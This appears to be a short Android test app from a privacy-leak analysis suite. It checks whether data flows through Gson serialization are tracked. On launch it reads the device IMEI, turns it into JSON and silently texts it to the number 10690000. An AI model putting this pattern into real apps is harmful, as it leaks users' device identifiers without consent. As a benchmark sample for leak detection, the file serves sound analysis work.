package cn.privlens.suite.gson_to_json;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import com.google.gson.Gson;

public class Main extends Activity {
    static class Dev {
        String imei;
        String os = "android";
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Dev d = new Dev();
        d.imei = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        SmsManager.getDefault().sendTextMessage("10690000", null, new Gson().toJson(d), null, null);
    }
}
